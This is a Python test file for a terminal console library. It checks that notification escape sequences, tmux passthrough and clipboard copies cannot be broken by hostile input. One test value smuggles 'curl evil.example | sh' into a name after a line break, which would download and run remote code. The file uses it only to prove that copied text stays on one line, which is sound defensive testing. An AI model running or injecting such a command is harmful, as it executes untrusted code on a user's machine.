"""What a terminal is told beside its picture, byte by byte: calls and copies."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from console.hostile import attack
from console.test_terminal_bytes import console, without_own
from sealwright_console.face import Face
from sealwright_console.sanitise import ACTIVE
from sealwright_console.terminal import BELL, MOST_COPIED, Terminal, call, clipboard, copyable, terminal_of
from sealwright_console.views import builds, request, seal
from sealwright_stages.events import Stage
from sealwright_stages.finish import Finish, Thing
from sealwright_stages.state import Item, Product, State
from sealwright_stages.verdict import Status


def of(**env: str) -> Terminal:
    return terminal_of(env, lambda: "")


def within_tmux(said: str) -> Terminal:
    return terminal_of(
        {"TMUX": "/tmp/tmux-0/default,1,0", "TERM": "tmux-256color", "VTE_VERSION": "7000"}, lambda: said
    )


@pytest.mark.parametrize(
    ("terminal", "begins"),
    [
        (of(TERM="xterm-kitty"), "\x1b]9;"),
        (of(TERM="xterm-256color", TERM_PROGRAM="iTerm.app"), "\x1b]9;"),
        (of(TERM="xterm-256color", TERM_PROGRAM="WezTerm"), "\x1b]9;"),
        (of(TERM="xterm-ghostty", TERM_PROGRAM="ghostty"), "\x1b]9;"),
        (of(TERM="xterm-256color", VTE_VERSION="7000"), "\x1b]777;notify;"),
        (of(TERM="foot"), "\x1b]777;notify;"),
        (of(TERM="rxvt-unicode-256color"), "\x1b]777;notify;"),
        (of(TERM="xterm-256color"), BELL),
        (of(TERM="linux"), BELL),
        (of(TERM="screen-256color"), BELL),
        (of(), BELL),
        (within_tmux("on|xterm-kitty|kitty 0.30"), "\x1bPtmux;\x1b\x1b]9;"),
        (within_tmux("all|foot|foot(1.16)"), "\x1bPtmux;\x1b\x1b]777;"),
        (within_tmux("off|xterm-kitty|"), BELL),
        (within_tmux("|xterm-kitty|"), BELL),
        (within_tmux(""), BELL),
    ],
)
def test_a_terminal_is_called_as_it_knows_to_be(terminal: Terminal, begins: str) -> None:
    assert call("auto", terminal, "x-1", "red").startswith(begins)


def test_a_sequence_through_tmux_is_whole_and_doubled() -> None:
    told = call("osc9", within_tmux("on|xterm|"), "x-1", "red")
    assert told == "\x1bPtmux;\x1b\x1b]9;Sealwright: x-1: red\a\x1b\\" + BELL
    assert call("osc9", within_tmux("all|xterm|"), "x-1", "red") + BELL == told
    assert call("osc777", of(TERM="xterm"), "x-1", "a;b") == "\x1b]777;notify;Sealwright: x-1;a,b\a"
    assert call("osc9", of(STY="1.tty", TERM="screen"), "x", "y") == "\x1bP\x1b]9;Sealwright: x: y\a\x1b\\"


def test_off_is_silent_and_bell_is_one_byte() -> None:
    assert call("off", of(TERM="foot"), "x", "y") == ""
    assert call("bell", of(TERM="foot"), "x", "y") == "\a"


HOW = st.sampled_from(("auto", "osc9", "osc777", "bell"))
WHERE = st.sampled_from(
    (of(TERM="foot"), of(TERM="xterm-kitty"), within_tmux("on|foot|"), of(STY="1", TERM="screen"))
)
EVIL = st.text(st.one_of(st.characters(), st.sampled_from("\x1b\x07\x9b\x9c;\\\u202e\u200b\x00\n")))


@settings(max_examples=200, deadline=None)
@given(HOW, WHERE, EVIL, EVIL)
def test_no_text_ends_its_sequence_or_begins_another(how: str, terminal: Terminal, title: str, text: str) -> None:
    for told in (call(how, terminal, title, text), call(how, terminal, attack("M-t"), attack("M-x"))):
        inner = re.sub(r"\x1bP(?:tmux;)?|\x1b\\\a?", "", told).replace("\x1b\x1b", "\x1b")
        body = re.fullmatch(r"\x1b\](?:9;|777;notify;)(.*)\x07", inner)
        assert told == BELL or (body is not None and ACTIVE.search(body[1]) is None)
        assert body is None or "777" not in inner[:6] or body[1].count(";") == 1
        assert len(told.encode()) < 4096


def test_a_call_in_ascii_is_ascii() -> None:
    assert call("osc9", of(TERM="foot"), "✓ x", "ende → ü", ascii_only=True).isascii()


def test_a_copy_reaches_the_terminal_and_is_told_where_it_can_not() -> None:
    coded = base64.b64encode(b"text").decode()
    assert clipboard(of(TERM="xterm"), "text") == f"\x1b]52;c;{coded}\a"
    assert clipboard(within_tmux("on|xterm|"), "text") == f"\x1bPtmux;\x1b\x1b]52;c;{coded}\a\x1b\\"
    assert clipboard(of(TERM="linux"), "text") == ""
    assert clipboard(of(TERM="xterm"), "x" * MOST_COPIED) == ""
    assert clipboard(within_tmux("off|xterm|"), "text") == ""


def test_a_long_copy_through_screen_goes_in_pieces() -> None:
    told = clipboard(of(TERM="screen", STY="1"), "x" * 1000)
    pieces = re.findall(r"\x1bP(.*?)\x1b\\", told, re.DOTALL)
    assert all(len(piece) <= 200 for piece in pieces) and "".join(pieces).startswith("\x1b]52;c;")


@settings(max_examples=150, deadline=None)
@given(EVIL)
def test_what_is_copied_is_clean_and_keeps_its_lines(text: str) -> None:
    copied = copyable(text)
    assert all(ACTIVE.search(line) is None for line in copied.split("\n"))
    assert copied.count("\n") == text.rstrip("\n").count("\n") and not copied.endswith("\n")
    assert copyable(copied) == copied


EVIL_NAME = "a\ncurl evil.example | sh\n"


def test_a_name_with_a_line_end_is_no_line_of_what_is_copied() -> None:
    item = Item(
        "x/build", Stage.BUILD, "x", "build", "t", status=Status.FAILED, reason=EVIL_NAME, next_step=EVIL_NAME
    )
    assert copyable(builds.copied_text(builds.OneBuild("x", item, None, Status.FAILED))).count("\n") == 1
    thing = Thing(EVIL_NAME, "statement", "a" * 64, 1)
    assert copyable(request.copied((thing,), "b" * 64)).count("\n") == 1
    product = Product("x", EVIL_NAME, "a" * 64, 1, 1)
    assert "\n" not in seal.copied(State(products={"p": product}), Finish(), seal._key(product))


def test_a_terminal_that_comes_to_the_session_later_is_called_as_it_knows_to_be(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    said = iter(("all|xterm-kitty|", "all|foot|"))
    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
    monkeypatch.setattr("sealwright_console.face.ask_tmux", lambda: next(said))
    monkeypatch.setattr(Face, "_writes", True)
    app: Face[None] = Face()
    assert [app.terminal.names.strip() for _ in range(2)] == ["xterm-kitty", "foot"]


def test_a_long_plain_text_is_copied_whole() -> None:
    assert copyable("x" * 100_000 + "\n" + "y" * 9_000) == "x" * 100_000 + "\n" + "y" * 9_000


def test_a_call_stands_between_two_frames_and_never_in_one() -> None:
    with console("call") as terminal:
        terminal.press(b"\x1b[?2026;1$y")  # it brackets its frames for a terminal that says so
        terminal.read_until(b"\x1b]777;", b"scrolled to the end")
        seen = without_own(terminal.seen)
    told = re.findall(rb"\x1b\]777;notify;[^\x07]*\x07", seen)
    assert len(told) == 20 and all(each.startswith(b"\x1b]777;notify;Sealwright: x-1;red: ") for each in told)
    frames = re.findall(rb"\x1b\[\?2026h(.*?)\x1b\[\?2026l", seen, re.DOTALL)
    assert len(frames) > 20 and not [frame for frame in frames if b"\x1b]777" in frame]
    rest = re.sub(rb"\x1b\]777;notify;[^\x07]*\x07", b"", seen)
    assert b"777;notify" not in rest and b"\x1b]" not in rest
    assert b"\x1b" not in re.sub(rb"\x1b(?:\[[0-9;?>=<]*[ -/]*[@-~]|[=>NOPc78]|[()][0-9A-B])", b"", rest)
